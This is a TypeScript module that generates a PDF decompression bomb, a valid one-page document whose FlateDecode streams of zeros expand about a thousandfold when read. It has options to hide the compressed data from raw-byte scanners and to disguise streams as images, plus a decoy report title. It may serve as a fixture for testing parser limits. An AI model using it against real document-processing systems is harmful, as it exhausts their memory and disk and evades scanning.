import { createDeflate } from 'node:zlib';

export interface BombOptions {
  /** Zeros each content stream expands to (after a line of text in the first one). */
  zerosPerStream: number;
  /** Content streams on the one page; the same size each. */
  streams?: number;
  /** 'hex' puts ASCIIHexDecode in front of FlateDecode, which hides the zlib data from a scan of the raw bytes. */
  wrap?: 'none' | 'hex';
  /** Marks each stream /Subtype /Image, as an image XObject would be (readers never decode those for text). */
  markAsImage?: boolean;
}

export const TEXT_LINE = 'Quarterly report of the holding company';

/**
 * A valid one-page PDF whose content is a line of text and then zeros under FlateDecode: zlib packs zeros about
 * 1000 to 1, so a 1 MB file expands to about 1 GB when the page is read (a decompression bomb).
 */
export async function bombPdf(options: BombOptions): Promise<Buffer> {
  const count = options.streams ?? 1;
  const first = await deflatedZeros(Buffer.from(`BT /F1 12 Tf 72 720 Td (${TEXT_LINE}) Tj ET\n`), options.zerosPerStream);
  const others = count > 1 ? await deflatedZeros(Buffer.alloc(0), options.zerosPerStream) : first;
  const streamObject = (data: Buffer) => {
    const body = options.wrap === 'hex' ? Buffer.from(`${data.toString('hex')}>`) : data;
    const filter = options.wrap === 'hex' ? '[/ASCIIHexDecode /FlateDecode]' : '/FlateDecode';
    const image = options.markAsImage ? ' /Subtype /Image' : '';
    return [Buffer.from(`<< /Length ${body.length} /Filter ${filter}${image} >>\nstream\n`), body, Buffer.from('\nendstream')];
  };
  const contentRefs = Array.from({ length: count }, (_, i) => `${5 + i} 0 R`).join(' ');
  return assemble([
    ['<< /Type /Catalog /Pages 2 0 R >>'],
    ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [${contentRefs}] /Resources << /Font << /F1 4 0 R >> >> >>`],
    ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    ...Array.from({ length: count }, (_, i) => streamObject(i === 0 ? first : others)),
  ]);
}

/** Numbered objects, an xref table with their offsets, and the trailer. */
function assemble(objects: (string | Buffer)[][]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let size = parts[0].length;
  objects.forEach((body, i) => {
    offsets.push(size);
    const chunk = Buffer.concat([`${i + 1} 0 obj\n`, ...body, '\nendobj\n'].map((p) => (Buffer.isBuffer(p) ? p : Buffer.from(p))));
    parts.push(chunk);
    size += chunk.length;
  });
  const xref = ['xref', `0 ${objects.length + 1}`, '0000000000 65535 f ', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `)];
  parts.push(Buffer.from(`${xref.join('\n')}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`));
  return Buffer.concat(parts);
}

async function deflatedZeros(head: Buffer, zeroBytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  deflate.write(head);
  const zeros = Buffer.alloc(Math.min(zeroBytes, 16 * 1024 * 1024));
  for (let left = zeroBytes; left > 0; left -= zeros.length) {
    if (!deflate.write(left >= zeros.length ? zeros : zeros.subarray(0, left))) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await ended;
  return Buffer.concat(out);
}
